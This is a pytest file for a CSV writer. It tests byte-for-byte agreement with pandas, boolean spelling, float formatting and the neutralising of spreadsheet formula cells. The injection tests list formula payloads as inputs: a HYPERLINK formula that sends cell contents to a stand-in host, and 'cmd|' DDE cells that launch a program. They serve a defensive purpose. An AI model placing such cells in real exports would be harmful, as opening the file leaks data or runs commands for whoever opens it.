"""The commands' CSV writer gives the bytes pandas' to_csv gives, booleans spelt as the
contract spells them (true/false)."""
from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from southbound.outputs import write_csv


@pytest.mark.parametrize("frame", [
    pd.DataFrame({"id": ["a", "b,c", 'say "hi"', "line\nbreak", "cr\rx", "", None, "é; ü"],
                  "score": [0.000986, 1e-06, np.nan, -0.0, 0.1 + 0.2, 123456789.0, 1e22, 0.5],
                  "refer": [True, False] * 4,
                  "n": np.arange(8, dtype=np.int64) - 3,
                  "band": pd.Series(["low", "high", None, "x", "y", "z", "w", "v"], dtype="str")}),
    pd.DataFrame({"mixed": [1, "a", None], "when": pd.to_datetime(["2025-01-01"] * 3)}),
    pd.DataFrame({"a,b": pd.Series([], dtype=float)}),
    pd.DataFrame({"reasons": ["suv, 7 years old; 1 occupant", "van", "a,b\nc", None]}),
], ids=["kinds", "left-to-pandas", "empty", "commas-no-quotes"])
def test_write_csv_gives_pandas_bytes(frame, tmp_path):
    spelt = frame.copy()
    for name in spelt.columns[spelt.dtypes == bool]:
        spelt[name] = spelt[name].map({True: "true", False: "false"})
    spelt.to_csv(tmp_path / "pandas.csv", index=False)
    write_csv(frame, tmp_path / "ours.csv")
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


@pytest.mark.parametrize("frame", [
    pd.DataFrame({"crossing_id": ["a", "b"], "refer": [True, False]}),
    pd.DataFrame({"mixed": [1, "a"], "refer": [False, True]}),    # the pandas path
], ids=["fast", "pandas"])
def test_booleans_are_written_as_the_contract_spells_them(frame, tmp_path):
    write_csv(frame, tmp_path / "ours.csv")
    lines = (tmp_path / "ours.csv").read_text().splitlines()
    assert [line.rsplit(",", 1)[1] for line in lines] == ["refer"] + [
        "true" if v else "false" for v in frame["refer"]]


def test_floats_are_written_as_pandas_writes_them_across_sizes(tmp_path):
    """Python's repr of every float (arrow writes the middle sizes, checked here against
    pandas' own bytes): whole numbers, the edges of arrow's range, exponents, NaN."""
    rng = np.random.default_rng(3)
    values = np.concatenate([
        10 ** rng.uniform(-9, 17, 20_000), -(10 ** rng.uniform(-9, 17, 2_000)),
        np.round(rng.random(20_000), 6), np.arange(-3.0, 40.0), [0.0, -0.0, np.nan],
        [1e-4, np.nextafter(1e-4, 0), np.nextafter(1e-4, 1), 1e9, np.nextafter(1e9, 0),
         999999999.5, 0.1, 0.3, 2 / 3, 1e-5, 5e-324, 1.7976931348623157e308]])
    frame = pd.DataFrame({"x": values, "y": rng.permutation(values)})
    write_csv(frame, tmp_path / "ours.csv")
    frame.to_csv(tmp_path / "pandas.csv", index=False)
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1", "-"]


@pytest.mark.parametrize("path", ["fast", "pandas"])
def test_text_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, path):
    """A text cell that begins with =, +, -, @ (a tab, a carriage return) gets a single
    quote before it, unless it is a plain number; number columns are as they were."""
    import csv
    text = FORMULAS + ["-3.5", "+7", "1e-3", "P1", "a=b", None]
    numbers = [-3.5, -0.25, 1.0, -1e22, 2.0, -7.0, 0.5, 3.0, -1.0, 4.0, 5.0, np.nan]
    frame = pd.DataFrame({"id": text, "x": numbers, "n": np.arange(12) - 6})
    if path == "pandas":
        frame["mixed"] = [1, "=1+1"] * 6               # a column pandas formats
    write_csv(frame, tmp_path / "out.csv")
    with open(tmp_path / "out.csv", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [r["id"] for r in read] == ["'" + f for f in FORMULAS] + [
        "-3.5", "+7", "1e-3", "P1", "a=b", ""]
    assert [r["x"] for r in read][:4] == ["-3.5", "-0.25", "1.0", "-1e+22"]
    assert [int(r["n"]) for r in read] == list(range(-6, 6))
    if path == "pandas":
        assert [r["mixed"] for r in read][:2] == ["1", "'=1+1"]


def test_rejected_rows_are_neutralised_too(tmp_path):
    from southbound.outputs import write_rejects
    rejects = pd.DataFrame({"row": [2], "reason": ["column port_code: ..."],
                            "crossing_id": ["=cmd|' /C calc'!A0"]})
    side = write_rejects(rejects, "log.csv", tmp_path)
    assert side.read_text().splitlines()[1] == "2,column port_code: ...,'=cmd|' /C calc'!A0"
